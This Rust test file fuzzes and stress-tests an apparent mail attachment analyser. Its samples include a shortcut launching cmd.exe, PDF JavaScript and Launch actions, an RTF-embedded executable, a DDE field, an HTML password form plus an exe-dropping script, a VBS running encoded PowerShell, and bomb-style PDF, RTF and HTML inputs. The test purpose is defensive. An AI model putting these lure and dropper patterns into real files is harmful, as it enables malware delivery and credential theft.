//! Files that mean harm to whoever looks into them: cut off, changed, random, endless. Nothing panics, and nothing takes long.

use crate::{
    dice::Dice,
    families::FAMILIES,
    samples::{compound, image, mail, note, package, pdf, pdf_stream, program, rtf_object, shortcut},
};
use postern_server::mail::analyser::{SCORE_MAX, analyse};
use proptest::prelude::*;
use std::time::{Duration, Instant};

/// How one file's readers are told apart: a sample of each, and what it is called.
fn samples() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("a.lnk", shortcut("C:\\Windows\\System32\\cmd.exe", "/c start https://nowhere.example/", "a.pdf", true)),
        ("a.iso", image(&[("run.exe", &program()), ("b.txt", b"text")], true, true)[..47_104].to_vec()),
        ("a.pdf", pdf(&[b"<< /OpenAction << /S /JavaScript /JS (app.launchURL\\(\"http://nowhere.example\"\\)) >> /AA 2 0 R >>".to_vec(), pdf_stream("/Type /ObjStm /N 1 /First 4", b"9 0 << /S /Launch /F (cmd.exe) >>")])),
        ("a.rtf", format!("{{\\rtf1\\objupdate {}}}", rtf_object("Package", &crate::samples::packaged("run.exe", &program()))).into_bytes()),
        ("a.one", note(&[&program(), b"text"])),
        ("a.doc", compound(&[("/Workbook", vec![0x85, 0, 10, 0, 0, 0, 0, 0, 2, 1, 1, 0, b'A', 0]), ("/\u{1}Ole10Native", [vec![0; 4], crate::samples::packaged("run.exe", &program())].concat())])),
        ("a.docx", package("word", &[("word/document.xml", b"<w:p><w:instrText>DDE cmd \"x\"</w:instrText></w:p>"), ("word/_rels/a.rels", b"<Relationships><Relationship Type=\"x/attachedTemplate\" Target=\"http://nowhere.example\" TargetMode=\"External\"/></Relationships>")])),
        ("a.html", b"<html><form action='https://nowhere.example/'><input type=password></form><script>var b = new Blob([atob('TVqQAAMAAAAEAAAA//8AALgAAAA=')]); a.href = URL.createObjectURL(b); a.download = 'a.exe'; a.click(); eval(unescape('%61%62%63%64%65%66%67%68%69%6a%6b%6c%6d%6e%6f%70%71'));</script></html>".to_vec()),
        ("a.vbs", b"CreateObject(\"WScr\" & \"ipt.Shell\").Run \"powershell -enc AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\"".to_vec()),
        ("a.svg", b"<svg><script>location='http://nowhere.example'</script></svg>".to_vec()),
    ]
}

fn changed(mut bytes: Vec<u8>, changes: &[(prop::sample::Index, u8, u8)]) -> Vec<u8> {
    for (at, byte, way) in changes {
        if bytes.is_empty() {
            break;
        }
        let at = at.index(bytes.len());
        match way {
            0 => bytes[at] = *byte,
            1 => bytes.insert(at, *byte),
            2 => {
                bytes.remove(at);
            }
            3 => bytes.truncate(at),
            // A number of four bytes that is as large as it can be.
            4 => bytes.iter_mut().skip(at).take(4).for_each(|byte| *byte = 0xff),
            _ => {
                let piece = bytes[at..(at + 60).min(bytes.len())].to_vec();
                bytes.splice(at..at, piece);
            }
        }
    }
    bytes
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(1_500))]
    #[test]
    fn no_change_of_a_file_makes_its_reader_fall(
        sample in 0..10_usize,
        changes in prop::collection::vec((any::<prop::sample::Index>(), any::<u8>(), 0u8..6), 1..12),
    ) {
        let (name, bytes) = samples().swap_remove(sample);
        let report = analyse(&changed(bytes, &changes), name, "");
        prop_assert!(report.score <= SCORE_MAX);
    }

    #[test]
    fn no_bytes_behind_a_known_beginning_make_a_reader_fall(sample in 0..10_usize, bytes in prop::collection::vec(any::<u8>(), 0..3_000), from in 0..200_usize) {
        let (name, mut whole) = samples().swap_remove(sample);
        // A disk image is known by what stands far behind its beginning.
        whole.truncate(if name == "a.iso" { 16 * 2_048 + from } else { from });
        whole.extend(bytes);
        let report = analyse(&whole, name, "");
        prop_assert!(report.score <= SCORE_MAX);
    }
}

#[test]
fn a_file_that_is_cut_off_anywhere_is_read_as_far_as_it_goes() {
    for (name, bytes) in samples() {
        let step = (bytes.len() / 300).max(1);
        for length in (0..bytes.len()).step_by(step) {
            assert!(analyse(&bytes[..length], name, "").score <= SCORE_MAX, "{name}");
        }
    }
}

#[test]
fn endless_files_end() {
    let mut circle = image(&[("a.txt", b"text")], false, false);
    // The folder is in itself, a thousand times.
    let root = 20 * 2_048;
    let entry = circle[root..root + 34].to_vec();
    for at in 0..50 {
        let mut own = entry.clone();
        own.extend([0; 2]);
        own[0] = 36;
        own[32] = 2;
        own[33..35].copy_from_slice(b"ab");
        circle[root + 68 + at * 36..root + 104 + at * 36].copy_from_slice(&own);
    }
    let repeated = |piece: &str, count: usize| piece.repeat(count).into_bytes();
    let files: Vec<(&str, Vec<u8>)> = vec![
        ("circle.iso", circle),
        (
            "deep.pdf",
            [b"%PDF-1.7\n1 0 obj ".to_vec(), repeated("<< /A ", 400_000)].concat(),
        ),
        (
            "lists.pdf",
            [b"%PDF-1.7\n1 0 obj ".to_vec(), repeated("[ 1 0 R ", 400_000)].concat(),
        ),
        (
            "objects.pdf",
            [
                b"%PDF-1.7\n".to_vec(),
                repeated("1 0 obj << /OpenAction 1 0 R /Next 1 0 R >> ", 60_000),
            ]
            .concat(),
        ),
        (
            "streams.pdf",
            [
                b"%PDF-1.7\n".to_vec(),
                repeated("1 0 obj << /Type /ObjStm >> stream\n", 60_000),
            ]
            .concat(),
        ),
        (
            "bomb.pdf",
            pdf(&vec![
                pdf_stream(
                    "/Type /ObjStm /N 1 /First 4",
                    &vec![b' '; 8 * 1024 * 1024]
                );
                40
            ]),
        ),
        (
            "open.rtf",
            [b"{\\rtf1".to_vec(), repeated("\\objdata {", 300_000)].concat(),
        ),
        (
            "digits.rtf",
            [b"{\\rtf1\\objdata ".to_vec(), repeated("4d5a\\a1 ", 400_000)].concat(),
        ),
        (
            "pieces.html",
            [b"<html><script>".to_vec(), repeated("\"a\"+", 600_000)].concat(),
        ),
        (
            "numbers.html",
            [b"<html><script>[".to_vec(), repeated("77,90,", 400_000)].concat(),
        ),
        (
            "escapes.html",
            [b"<html><script>'".to_vec(), repeated("\\x4d\\x5a%", 300_000)].concat(),
        ),
        (
            "runs.html",
            [
                b"<html><script>".to_vec(),
                repeated("TVqQAAMAAAAEAAAAVVVVVVVVVVVVVVVVV;", 60_000),
            ]
            .concat(),
        ),
        (
            "forms.html",
            repeated("<html><form action=//a><input type=password>", 60_000),
        ),
        ("files.one", note(&vec![&b"MZ"[..]; 20_000])),
        ("long.lnk", shortcut("cmd.exe", &" ^".repeat(30_000), "", false)),
    ];
    for (name, bytes) in files {
        let started = Instant::now();
        let report = analyse(&bytes, name, "");
        // Not a benchmark: what is read again for each of its pieces takes hours.
        assert!(
            started.elapsed() < Duration::from_secs(60),
            "{name}: {:?}",
            started.elapsed()
        );
        assert!(report.features.len() <= 256 && report.urls.len() <= 64, "{name}");
    }
}

#[test]
fn pages_within_pages_are_read_to_a_limit() {
    use base64::{Engine, engine::general_purpose::STANDARD};
    let mut page = "<html><form action='https://nowhere.example/'><input type=password></form></html>".to_string();
    for _ in 0..3 {
        page = format!(
            "<html><script>document.write(atob('{}'))</script></html>",
            STANDARD.encode(&page)
        );
    }
    let found = |page: &str| {
        analyse(page.as_bytes(), "a.html", "")
            .features
            .iter()
            .any(|feature| feature.rule == "html:credential-form")
    };
    assert!(found(&page));
    for _ in 0..8 {
        page = format!(
            "<html><script>document.write(atob('{}'))</script></html>",
            STANDARD.encode(&page)
        );
    }
    assert!(!found(&page));
}

#[test]
fn every_generated_mail_can_be_cut_off() {
    for family in FAMILIES {
        let mail = (family.attack)(&mut Dice::of(family.name, 1));
        for length in (0..mail.len()).step_by((mail.len() / 40).max(1)) {
            crate::judge(
                &crate::scanner(Vec::new()),
                &mail[..length],
                &postern_server::commands::scan::policy_file::default_policy(),
            );
        }
    }
    assert!(!mail("x", &[]).is_empty());
}
